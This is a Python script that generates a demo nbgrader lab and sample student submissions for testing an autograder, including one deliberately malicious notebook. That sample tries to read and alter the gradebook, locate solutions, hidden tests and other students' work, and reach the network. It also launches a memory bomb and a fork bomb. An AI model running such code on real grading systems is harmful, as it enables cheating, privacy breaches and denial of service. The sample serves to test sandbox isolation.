"""Write the demo lab used by the autograder's tests and README: an nbgrader source notebook and
sample submissions (good, partial, blank, broken JSON, malicious, endless loop).

    python autograder/samples/make_samples.py      # rewrites autograder/samples/demo_lab/

The demo lab is tiny on purpose (NumPy only), so a whole class grades in seconds and the tests do
not depend on the course's real labs.
"""
from __future__ import annotations

import copy
import pathlib
import re

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

HERE = pathlib.Path(__file__).resolve().parent
LAB = "demo_lab"


def _meta(kind: str, grade_id: str, points: int = 0) -> dict:
    if kind == "solution":
        return {"nbgrader": {"grade": False, "solution": True, "locked": False, "grade_id": grade_id,
                             "schema_version": 3}}
    return {"nbgrader": {"grade": True, "solution": False, "locked": True, "points": points,
                         "grade_id": grade_id, "schema_version": 3}}


TASK1 = '''def add(a, b):
    """Return a + b."""
    ### BEGIN SOLUTION
    return a + b
    ### END SOLUTION'''

TEST1 = '''assert add(1, 1) == 2, "add(1, 1) should be 2"
### BEGIN HIDDEN TESTS
SECRET_HIDDEN_MARKER_1 = 12345
assert add(-4, 9) == 5, "add must work with negative numbers: add(-4, 9) should be 5"
### END HIDDEN TESTS'''

TASK2 = '''import numpy as np

def normalize(x):
    """Scale a 1-D array to unit Euclidean norm (return a new float array)."""
    ### BEGIN SOLUTION
    x = np.asarray(x, dtype=float)
    return x / np.linalg.norm(x)
    ### END SOLUTION'''

TEST2 = '''import numpy as np
assert np.allclose(normalize([3, 4]), [0.6, 0.8]), "normalize([3, 4]) should be [0.6, 0.8]"
### BEGIN HIDDEN TESTS
SECRET_HIDDEN_MARKER_2 = 67890
assert abs(np.linalg.norm(normalize(np.arange(1, 6))) - 1) < 1e-9, "the result must have norm 1 for any non-zero input"
assert normalize([0, 2]).dtype.kind == "f", "normalize must return floats"
### END HIDDEN TESTS'''


def source_notebook() -> nbformat.NotebookNode:
    nb = new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.cells = [
        new_markdown_cell("# Demo lab\nA two-task lab used to test the autograder."),
        new_markdown_cell("## Task 1 (2 points)"),
        new_code_cell(TASK1, metadata=_meta("solution", "task1_add")),
        new_code_cell(TEST1, metadata=_meta("test", "test_task1_add", 2)),
        new_markdown_cell("## Task 2 (3 points)"),
        new_code_cell(TASK2, metadata=_meta("solution", "task2_normalize")),
        new_code_cell(TEST2, metadata=_meta("test", "test_task2_normalize", 3)),
    ]
    return nb


def student_version(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """What nbgrader releases: solutions replaced by ``raise NotImplementedError()``, hidden tests removed."""
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        cell.source = re.sub(r"( *)### BEGIN SOLUTION.*?### END SOLUTION", r"\1# YOUR CODE HERE\n\1raise NotImplementedError()",
                             cell.source, flags=re.S)
        cell.source = re.sub(r"\n?### BEGIN HIDDEN TESTS.*?### END HIDDEN TESTS", "", cell.source, flags=re.S)
    return nb


MALICIOUS = r'''
import os, socket, json, glob, resource
def attempt(name, fn):
    try:
        got = fn()
        print(f"ATTACK {name}: SUCCEEDED {str(got)[:200]!r}")
    except Exception as exc:
        print(f"ATTACK {name}: BLOCKED {type(exc).__name__}")

def walk(top="/"):
    for root, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/usr", "/dev", "/etc")
                   and d not in (".venv", ".pyenv", "site-packages")]  # public software, nothing of the course
        for f in files:
            yield os.path.join(root, f)

def read_gradebook():
    for p in ["../../../gradebook.db", "../../gradebook.db", "/grading/gradebook.db"] + [p for p in walk() if p.endswith(".db")]:
        if os.path.exists(p):
            return open(p, "rb").read(64)
    raise FileNotFoundError("no gradebook reachable")
def write_gradebook():
    for p in ["../../../gradebook.db", "/grading/gradebook.db"]:
        if os.path.exists(p):
            open(p, "ab").write(b"x"); return p
    raise FileNotFoundError("no gradebook reachable")
def read_solutions():
    hits = list(walk()) + glob.glob("/grading/source/**", recursive=True) + glob.glob("/work/main/solutions/**", recursive=True)
    for p in hits:
        try:
            if "### BEGIN " + "SOLUTION" in open(p, errors="ignore").read(1 << 20):
                return p
        except OSError:
            pass
    raise FileNotFoundError("no solution readable")
def read_hidden_tests():
    for p in walk():
        try:
            if "SECRET_HIDDEN_" + "MARKER" in open(p, errors="ignore").read(1 << 20):
                return p
        except OSError:
            pass
    raise FileNotFoundError("no file with hidden tests readable")
def other_student():
    hits = [p for p in walk() if "submitted" in p and p.endswith(".ipynb")]
    hits += [p for p in glob.glob("../../*/*/*.ipynb") if "malicious" not in p]
    for p in hits:
        return p + " " + open(p).read(40)
    raise FileNotFoundError("no other submission reachable")
def connect(host, port):
    s = socket.create_connection((host, port), timeout=3)
    return s.getpeername()
def memory_bomb():
    return len(bytearray(8 << 30))
def fork_many():
    pids = []
    for _ in range(5000):
        pid = os.fork()
        if pid == 0:
            import time; time.sleep(30); os._exit(0)
        pids.append(pid)
    return len(pids)

attempt("read_gradebook", read_gradebook)
attempt("write_gradebook", write_gradebook)
attempt("read_solutions", read_solutions)
attempt("read_hidden_tests", read_hidden_tests)
attempt("read_other_student", other_student)
attempt("connect_localhost", lambda: connect("127.0.0.1", int(open("probe_port.txt").read()) if os.path.exists("probe_port.txt") else 8888))
attempt("connect_outside", lambda: connect("1.1.1.1", 53))
attempt("resolve_dns", lambda: socket.getaddrinfo("pypi.org", 443))
attempt("memory_bomb", memory_bomb)

def list_repo():
    seen = os.listdir("/work/main") if os.path.isdir("/work/main") else []
    seen += os.listdir("/root") if os.path.isdir("/root") else []
    if {"solutions", ".git", "autograder", ".bash_history"} & set(seen):
        return seen
    raise FileNotFoundError(f"only {seen} visible")
attempt("list_repo_and_root", list_repo)
print("uid", os.getuid(), "cwd", os.getcwd())
'''


def main() -> None:
    lab_dir = HERE / LAB
    src = lab_dir / "source" / LAB
    src.mkdir(parents=True, exist_ok=True)
    subs = lab_dir / "submissions"
    subs.mkdir(parents=True, exist_ok=True)
    solution = source_notebook()
    nbformat.write(solution, src / f"{LAB}.ipynb")

    good = copy.deepcopy(solution)  # a student who solved both tasks (hidden tests are stripped: nbgrader restores them)
    good = student_version(good)
    good.cells[2].source = re.sub(r" *### (BEGIN|END) SOLUTION\n?", "", TASK1).rstrip()
    good.cells[5].source = re.sub(r" *### (BEGIN|END) SOLUTION\n?", "", TASK2).rstrip()
    nbformat.write(good, subs / "good.ipynb")

    partial = copy.deepcopy(good)  # task 1 fails a hidden test (negative numbers), task 2 right
    partial.cells[2].source = 'def add(a, b):\n    return abs(a) + abs(b)'
    nbformat.write(partial, subs / "partial.ipynb")

    nbformat.write(student_version(solution), subs / "blank.ipynb")
    # invalid JSON (a truncated upload); stored under another suffix so that tools which read every
    # .ipynb of the repository do not trip on it: copy it to broken.ipynb to use it (the tests do)
    (subs / "broken.ipynb.invalid").write_text('{"cells": [ {"cell_type": "code", "source": "print(1)"')

    malicious = copy.deepcopy(good)
    malicious.cells.insert(2, new_code_cell(MALICIOUS))
    nbformat.write(malicious, subs / "malicious.ipynb")

    loop = copy.deepcopy(good)  # task 1 never returns; task 2 is right and must keep its points
    loop.cells[2].source = 'def add(a, b):\n    while True:\n        pass'
    nbformat.write(loop, subs / "endless.ipynb")


if __name__ == "__main__":
    main()
